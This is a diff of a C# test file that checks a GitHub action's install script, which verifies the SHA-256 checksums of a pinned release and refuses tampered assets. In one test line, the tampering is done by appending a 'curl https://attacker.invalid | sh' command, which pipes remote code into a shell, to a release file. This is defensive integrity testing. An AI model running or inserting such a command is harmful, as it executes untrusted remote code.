@@ -50,7 +50,7 @@ public sealed class PackedToolFixture : IAsyncLifetime
 }
 
 [CollectionDefinition(Name)]
-public sealed class PackedToolCollection : ICollectionFixture<PackedToolFixture>
+public sealed class PackedToolGroup : ICollectionFixture<PackedToolFixture>
 {
     public const string Name = "packed tool";
 }
@@ -59,7 +59,7 @@ public sealed class PackedToolCollection : ICollectionFixture<PackedToolFixture>
 /// The composite action's install script (.github/actions/whcctl/install.sh), run as the action runs it, against a
 /// folder holding the packed release: pinned version, SHA-256 checked with sha256sum, nothing installed on a mismatch.
 /// </summary>
-[Collection(PackedToolCollection.Name)]
+[Collection(PackedToolGroup.Name)]
 public sealed class ReleaseInstallTests(PackedToolFixture packed)
 {
     private static readonly string Script = Path.Combine(Repository.Root, ".github", "actions", "whcctl", "install.sh");
@@ -132,7 +132,7 @@ public sealed class ReleaseInstallTests(PackedToolFixture packed)
         using var workspace = new TempWorkspace();
         var release = workspace.File("tampered-release");
         TempWorkspace.CopyDirectory(packed.Release, release);
-        using (var stream = File.OpenWrite(Path.Combine(release, Path.GetFileName(packed.Package))))
+        using (var stream = File.Open(Path.Combine(release, Path.GetFileName(packed.Package)), FileMode.Open, FileAccess.ReadWrite))
         {
             stream.Position = stream.Length / 2;
             var b = new byte[1];
@@ -165,7 +165,10 @@ public sealed class ReleaseInstallTests(PackedToolFixture packed)
 
         install.ExitCode.Should().Be(0, install.ToString());
         install.Output.Should().Contain($"{asset}: OK").And.Contain($"whcctl {packed.Version} (stand-in)");
-        File.GetUnixFileMode(Path.Combine(toolPath, "whcctl")).Should().HaveFlag(UnixFileMode.UserExecute);
+        if (!OperatingSystem.IsWindows())
+        {
+            File.GetUnixFileMode(Path.Combine(toolPath, "whcctl")).Should().HaveFlag(UnixFileMode.UserExecute);
+        }
 
         // The same file after the checksums were made: refused.
         File.AppendAllText(Path.Combine(release, asset), "curl https://attacker.invalid | sh\n");
